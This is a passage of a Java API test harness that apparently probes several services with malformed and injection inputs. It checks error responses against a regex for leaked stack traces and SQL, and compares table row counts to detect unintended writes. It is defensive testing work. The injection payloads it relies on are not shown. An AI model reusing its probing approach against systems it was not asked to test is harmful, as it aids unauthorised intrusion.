            Thread.sleep(1_000L * (retryAfter == null ? 1 : Math.max(1, Integer.parseInt(retryAfter.trim()))));
        }
    }

    /** Stack traces, class names or SQL in a problem, after taking out what the request itself sent. */
    static final java.util.regex.Pattern LEAK = java.util.regex.Pattern.compile(
            "Exception|\\bat [a-z]+\\.[a-z]+\\.|\\b(java|javax|jakarta|org\\.hibernate|org\\.postgresql|io\\.quarkus|io\\.vertx|uk\\.ppo)\\.[a-z]"
                    + "|\\bSELECT\\b.*\\bFROM\\b|INSERT INTO|\\bUPDATE [a-z_]+ SET\\b|DELETE FROM|SQLSTATE|\\bpsql\\b|ERROR: ");

    private static boolean leaks(String body) {
        String shown = body;
        for (String attack : INJECTIONS) {
            shown = shown.replace(attack, "").replace(attack.replace("\"", "\\\""), "");
        }
        return LEAK.matcher(shown).find();
    }

    /** A per-record answer (the bulk offence push) that stored none of the records sent. */
    private static boolean everyRecordRejected(Response response) {
        try {
            JsonNode answer = new ObjectMapper().readTree(response.asString());
            return answer.path("rejected").asInt(0) > 0 && answer.path("created").asInt(-1) == 0 && answer.path("updated").asInt(-1) == 0;
        } catch (Exception e) {
            return false;
        }
    }

    private static String encode(String value) {
        return java.net.URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static boolean names(Response response, String field) {
        String body = response.asString();
        try {
            JsonNode problem = new ObjectMapper().readTree(body);
            for (JsonNode v : problem.path("violations")) {
                if (v.path("field").asText("").contains(field)) {
                    return true;
                }
            }
            return problem.path("detail").asText("").contains(field);
        } catch (Exception e) {
            return false;
        }
    }

    // ---------------------------------------------------------------- schema helpers

    private Map<String, JsonNode> properties(JsonNode schema) {
        Map<String, JsonNode> properties = new LinkedHashMap<>();
        JsonNode s = ApiDocument.resolve(document, schema);
        if (s != null && s.has("allOf")) {
            s.get("allOf").forEach(part -> properties.putAll(properties(part)));
        }
        if (s != null) {
            for (Iterator<Map.Entry<String, JsonNode>> it = s.path("properties").fields(); it.hasNext(); ) {
                var e = it.next();
                JsonNode p = ApiDocument.resolve(document, e.getValue());
                if (p != null && p.has("allOf") && p.get("allOf").size() == 1) {
                    p = ApiDocument.resolve(document, p.get("allOf").get(0));
                }
                if (p != null && !p.path("readOnly").asBoolean(false)) {
                    properties.put(e.getKey(), p);
                }
            }
        }
        return properties;
    }

    private JsonNode schemaOf(JsonNode parameter) {
        JsonNode s = ApiDocument.resolve(document, parameter.path("schema"));
        return s == null ? JsonNodeFactory.instance.objectNode() : s;
    }

    /** The schema's type; OpenAPI 3.1 may give a list such as ["string", "null"]. */
    static String typeOf(JsonNode schema) {
        JsonNode t = schema == null ? null : schema.get("type");
        if (t == null) {
            return schema != null && schema.has("properties") ? "object" : "";
        }
        if (t.isArray()) {
            for (JsonNode each : t) {
                if (!"null".equals(each.asText())) {
                    return each.asText();
                }
            }
        }
        return t.asText();
    }

    private static boolean isDate(String value) {
        try {
            LocalDate.parse(value);
            return true;
        } catch (RuntimeException e) {
            return false;
        }
    }

    /** Whether the schema's pattern (a Java-compatible regex in this document) allows the whole value. */
    private static boolean allowedByPattern(JsonNode schema, String value) {
        try {
            String pattern = schema.path("pattern").asText(null);
            if (pattern == null) {
                return false;
            }
            var matcher = java.util.regex.Pattern.compile(pattern).matcher(value);
            return pattern.equals("\\S") ? matcher.find() : matcher.matches();
        } catch (RuntimeException e) {
            return false;
        }
    }

    /** A string any text is valid for: no format, pattern or enum. */
    private static boolean freeText(JsonNode schema) {
        return "string".equals(typeOf(schema)) && !schema.has("format") && !schema.has("enum")
                && (!schema.has("pattern") || schema.get("pattern").asText().equals("\\S"));
    }

    private static JsonNode target(JsonNode body, boolean list) {
        return list ? body.get(0) : body;
    }

    private static JsonNode set(JsonNode body, boolean list, String name, Object value) {
        JsonNode target = target(body, list);
        if (target instanceof ObjectNode object) {
            object.set(name, value instanceof JsonNode node ? node : new ObjectMapper().valueToTree(value));
        }
        return body;
    }

    private static JsonNode remove(JsonNode body, boolean list, String name) {
        JsonNode target = target(body, list);
        if (target instanceof ObjectNode object) {
            object.remove(name);
        }
        return body;
    }

    private static byte[] unknownField(JsonNode body) {
        if (body instanceof ObjectNode object) {
            object.put("notAField", "x");
        } else if (body instanceof ArrayNode array && array.get(0) instanceof ObjectNode first) {
            first.put("notAField", "x");
        }
        return bytes(body);
    }

    private static byte[] wrap(byte[] element) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write('[');
        out.writeBytes(element);
        out.write(']');
        return out.toByteArray();
    }

    private static byte[] bytes(JsonNode node) {
        try {
            return new ObjectMapper().writeValueAsBytes(node);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    // ---------------------------------------------------------------- what is stored

    /** Which service owns a path, as the gateway's route table says. */
    static Suite.Service owner(String path) {
        if (path.startsWith("/api/v1/scoring")) {
            return Suite.Service.SCORING;
        }
        for (String prefix : List.of("/api/v1/areas", "/api/v1/incidents", "/api/v1/hotspots")) {
            if (path.startsWith(prefix)) {
                return Suite.Service.HOTSPOT;
            }
        }
        for (String prefix : List.of("/api/v1/plans", "/api/v1/actions", "/api/v1/milestones", "/api/v1/ppo-plans",
                "/api/v1/case-conferences", "/api/v1/delivery-plans", "/api/v1/risks", "/api/v1/projects")) {
            if (path.startsWith(prefix)) {
                return Suite.Service.ACTION_PLAN;
            }
        }
        return Suite.Service.OFFENDER;
    }

    private void awaitNoScoreRunInProgress() throws Exception {
        try (Tables tables = new Tables()) {
            for (int i = 0; i < 120 && tables.scalar(Suite.Service.SCORING,
                    "SELECT count(*) FROM scoring.score_run WHERE status IN ('QUEUED', 'RUNNING')") > 0; i++) {
                Thread.sleep(1_000);
            }
        }
    }

    private static String changed(Map<String, Long> before, Map<String, Long> after) {
        Map<String, String> diff = new TreeMap<>();
        after.forEach((table, n) -> {
            if (!n.equals(before.get(table))) {
                diff.put(table, before.get(table) + " -> " + n);
            }
        });
        return diff.toString();
    }

    private static String truncate(String body) {
        return body.length() <= 300 ? body : body.substring(0, 300) + "…";
    }

    /** Row counts of a service's tables (its audit log aside), read with the service's own database role. */
    static final class Tables implements AutoCloseable {

        private final Map<Suite.Service, Connection> connections = new EnumMap<>(Suite.Service.class);

        Map<String, Long> count(Suite.Service service) throws Exception {
            Connection c = connection(service);
            List<String> tables = new ArrayList<>();
            try (Statement s = c.createStatement();
                 ResultSet rows = s.executeQuery("SELECT table_name FROM information_schema.tables WHERE table_schema = '"
                         + service.schema() + "' AND table_type = 'BASE TABLE' AND table_name NOT LIKE '%audit%'"
                         + " AND table_name NOT LIKE 'flyway%' ORDER BY table_name")) {
                while (rows.next()) {
                    tables.add(rows.getString(1));
                }
            }
            Map<String, Long> counts = new TreeMap<>();
            for (String table : tables) {
                counts.put(table, scalar(service, "SELECT count(*) FROM " + service.schema() + "." + table));
            }
            return counts;
        }

        long scalar(Suite.Service service, String sql) throws Exception {
            try (Statement s = connection(service).createStatement(); ResultSet row = s.executeQuery(sql)) {
                row.next();
                return row.getLong(1);
            }
        }

        private Connection connection(Suite.Service service) throws Exception {
            Connection c = connections.get(service);
            if (c == null) {
                Map<String, String> db = RunningSuite.suite().databaseAccess(service);
                c = DriverManager.getConnection(db.get("url"), db.get("user"), db.get("password"));
                connections.put(service, c);
            }
            return c;
        }

        @Override
        public void close() throws Exception {
            for (Connection c : connections.values()) {
                c.close();
            }
        }
    }
}
